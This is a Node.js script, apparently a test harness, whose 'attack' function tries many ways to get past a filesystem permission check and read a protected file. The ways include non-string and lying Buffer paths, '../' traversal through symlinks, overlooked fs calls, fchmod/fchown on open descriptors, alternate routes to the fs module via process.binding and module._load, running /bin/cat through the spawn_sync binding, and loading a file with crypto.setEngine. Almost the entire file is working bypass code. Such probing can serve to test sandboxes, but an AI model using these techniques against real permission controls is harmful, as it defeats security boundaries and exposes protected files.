const fs = require('fs');
const tried = (action) => { try { return action(); } catch { return null; } };

const attack = async (inputs) => {
  const found = [];
  const told = (way, value) => { if (value) found.push(way); };
  const bytes = new TextEncoder().encode(inputs.file);
  const up = `/tmp/${'../'.repeat(10)}${inputs.file.slice(1)}`;
  // try paths that are not strings, because a check may look only at strings
  told('bytes', tried(() => fs.readFileSync(bytes)));
  told('buffer', tried(() => fs.readFileSync(Buffer.from(up))));
  told('url', tried(() => fs.readFileSync(new URL(`file://${inputs.file}`))));
  const lying = Buffer.from('/tmp/x');
  lying.utf8Write = lying.toString = () => '/tmp/x';
  Object.defineProperty(lying, 'toString', { value: () => inputs.file });
  told('buffer that lies', tried(() => fs.readFileSync(lying)));
  tried(() => fs.symlinkSync(`../${'../'.repeat(10)}${inputs.file.slice(1)}`, '/tmp/relative'));
  told('relative link', tried(() => fs.readFileSync('/tmp/relative')));
  // try functions that a check of permissions may have forgotten
  told('statfs and lstat', tried(() => fs.lstatSync(inputs.file)) ?? tried(() => fs.statfsSync(inputs.file)));
  told('real path', tried(() => fs.realpathSync.native(inputs.file)));
  told('open as blob', await tried(() => fs.openAsBlob(inputs.file).then((blob) => blob.text()).catch(() => null)));
  const handle = tried(() => fs.openSync('/etc/hostname', 'r')) ?? tried(() => fs.openSync('/usr', 'r'));
  if (handle !== null) {
    told('change by descriptor', tried(() => { fs.fchmodSync(handle, 0o777); return true; }) ?? tried(() => { fs.fchownSync(handle, 0, 0); return true; }));
  }
  told('temporary folder elsewhere', tried(() => fs.mkdtempSync('/usr/')) ?? tried(() => fs.mkdtempSync('/opt/')));
  const watched = await new Promise((done) => {
    const end = (now) => { tried(() => fs.unwatchFile(inputs.file)); done(now?.ino); };
    tried(() => fs.watchFile(inputs.file, { interval: 20 }, end));
    setTimeout(end, 60);
  });
  told('watched', watched);
  // try other ways to get the module fs
  for (const way of [
    () => process.mainModule.require('fs'), () => process.mainModule.__proto__.require('fs'), () => require('module')._load('fs'),
    () => module.constructor.createRequire('/x.js')('fs'), () => process.binding('fs'), () => require('module').createRequire('/')('node:fs'),
  ]) {
    const other = tried(way);
    told(String(way), other?.readFileSync && tried(() => other.readFileSync(inputs.file)));
  }
  told('spawn of the binding', tried(() => process.binding('spawn_sync').spawn({ file: '/bin/cat', args: ['cat', inputs.file], stdio: [{ type: 'pipe', readable: true, writable: true }] }))?.output?.[0]?.length);
  told('engine of OpenSSL', tried(() => { require('crypto').setEngine(inputs.file); return true; }));
  return found.join();
};
